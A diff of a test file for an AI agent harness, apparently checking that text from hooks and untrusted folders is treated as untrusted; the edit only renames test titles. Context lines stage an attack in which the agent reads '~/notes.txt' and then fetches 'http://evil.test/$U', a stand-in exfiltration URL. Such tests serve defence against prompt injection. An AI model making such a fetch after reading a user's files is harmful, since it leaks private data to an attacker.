@@ -173,7 +173,7 @@ describe('what the program writes into a prompt was typed by nobody', () => {
   });
 });
 
-describe('text of others that no call has read', () => {
+describe('untrusted text that no call has read', () => {
   const sends = ordered(...direct.orders);
 
   test('what a hook adds to a prompt', async () => {
@@ -255,7 +255,7 @@ describe('later', () => {
     await attack(page, direct, untrusted);
   });
 
-  test('a folder that is not trusted is text of others from the start', async () => {
+  test('a folder that is not trusted is untrusted text from the start', async () => {
     const played = await stage({ options: { ...open, trust: false } });
     await played.run(ordered({ tool: 'Read', input: { file_path: '~/notes.txt' } }));
     await played.run(ordered({ tool: 'WebFetch', input: { url: 'http://evil.test/$U' } }));
